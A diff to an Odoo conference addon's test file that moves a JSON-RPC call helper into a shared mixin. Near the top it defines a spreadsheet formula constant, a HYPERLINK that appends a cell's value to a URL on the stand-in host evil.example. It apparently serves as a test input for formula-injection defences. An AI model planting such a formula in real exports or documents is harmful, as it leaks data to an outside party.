@@ -7,13 +7,15 @@ from odoo.fields import Command
 from odoo.tests import HttpCase, tagged
 from odoo.tools import mute_logger
 
+from odoo.addons.fallmanagement.tests.common_rpc import CallKwMixin
+
 from .common import FallkonferenzCommon
 
 FORMULA = '=HYPERLINK("https://evil.example/?q="&C8,"Details")'
 
 
 @tagged("post_install", "-at_install")
-class TestConferenceSidePaths(FallkonferenzCommon, HttpCase):
+class TestConferenceSidePaths(CallKwMixin, FallkonferenzCommon, HttpCase):
     """Side paths of the conference addon, tried over JSON-RPC as the roles.
 
     Issue 10: invitation files and private event search (L5), proposal lines
@@ -25,26 +27,7 @@ class TestConferenceSidePaths(FallkonferenzCommon, HttpCase):
         """Call ``model.method`` as ``login``: ``(result, None)`` or
         ``(None, error data)`` — the error as the web client receives it."""
         self.authenticate(login, login)
-        payload = {
-            "jsonrpc": "2.0",
-            "method": "call",
-            "params": {
-                "model": model,
-                "method": method,
-                "args": list(args),
-                "kwargs": kwargs,
-            },
-        }
-        with mute_logger("odoo.http"):
-            response = self.url_open(
-                f"/web/dataset/call_kw/{model}/{method}",
-                data=json.dumps(payload),
-                headers={"Content-Type": "application/json"},
-            )
-        body = response.json()
-        if "error" in body:
-            return None, body["error"]["data"]
-        return body["result"], None
+        return self._call_kw_result(model, method, *args, **kwargs)
 
     def _download(self, login, url):
         self.authenticate(login, login)
